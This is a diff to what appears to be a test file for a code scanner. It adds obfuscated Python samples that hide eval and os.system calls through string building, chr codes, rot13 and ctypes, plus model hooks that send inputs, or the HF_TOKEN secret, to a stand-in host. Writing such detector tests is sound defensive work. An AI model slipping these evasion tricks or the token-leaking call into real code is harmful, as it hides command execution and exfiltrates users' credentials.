@@ -17,6 +17,13 @@ from jingwei.deploy.scanned import Scanned
 HOOK = "import torch, {0}\nclass M(torch.nn.Module):\n    def {1}(self, x=None):\n        {2}\n"
 
 GRAVE = {
+    "either way the same": "e = getattr(__builtins__, 'ev' + 'al') if x else __builtins__['ev' + 'al']\ne(bytes.fromhex('31').decode())",
+    "mapped characters": "import importlib\na = importlib.import_module(''.join(map(chr, (111, 115))))\ngetattr(a, ''.join(reversed('metsys')))('x')",
+    "shifted characters": "import os\ngetattr(os, ''.join(chr(c - 1) for c in [116, 122, 116, 117, 102, 110]))('x')",
+    "a codec's own function": "import codecs\nf = codecs.lookup('rot13').decode\nc = compile(f('vzcbeg bf')[0], 'h', 'exec')",
+    "a process by a library": "import ctypes\nctypes.CDLL(None).system(b'true')",
+    "a model that sends its input": HOOK.format("requests", "forward", "requests.post('http://x.invalid', json=x)"),
+    "a secret in an address": HOOK.format("requests, os", "__init__", "requests.get('http://x.invalid/?' + os.environ.get('HF_TOKEN', ''))"),
     "on import": "import os\nos.system('true')",
     "by another name": "from subprocess import Popen as p\np(['true'])",
     "import put together": "__import__('o' + 's').system('true')",
